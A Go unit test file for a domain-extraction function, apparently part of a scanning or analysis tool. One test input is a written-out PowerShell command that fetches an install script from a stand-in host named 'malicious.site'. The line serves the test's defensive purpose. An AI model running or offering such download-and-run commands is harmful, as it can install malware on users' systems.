package normalize

import "testing"

func TestExtractDomains_HTTPURL(t *testing.T) {
	domains := ExtractDomains("https://example.com/file.txt")
	if len(domains) != 1 || domains[0] != "example.com" {
		t.Errorf("expected domain 'example.com', got %v", domains)
	}
}

func TestExtractDomains_EmbeddedInLargerLiteral(t *testing.T) {
	domains := ExtractDomains("cmd.exe /c powershell -c \"iwr https://malicious.site/install.ps1\"")
	if len(domains) != 1 || domains[0] != "malicious.site" {
		t.Errorf("expected domain 'malicious.site', got %v", domains)
	}
}

func TestExtractDomains_GitSSH(t *testing.T) {
	domains := ExtractDomains("git@github.com:org/repo.git")
	if len(domains) != 1 || domains[0] != "github.com" {
		t.Errorf("expected domain 'github.com', got %v", domains)
	}
}

func TestExtractDomains_Dedup(t *testing.T) {
	domains := ExtractDomains("https://example.com/a then https://example.com/b")
	if len(domains) != 1 {
		t.Errorf("expected deduplicated domain list, got %v", domains)
	}
}

func TestExtractDomains_NoMatch(t *testing.T) {
	domains := ExtractDomains("just a plain string literal")
	if len(domains) != 0 {
		t.Errorf("expected no domains, got %v", domains)
	}
}
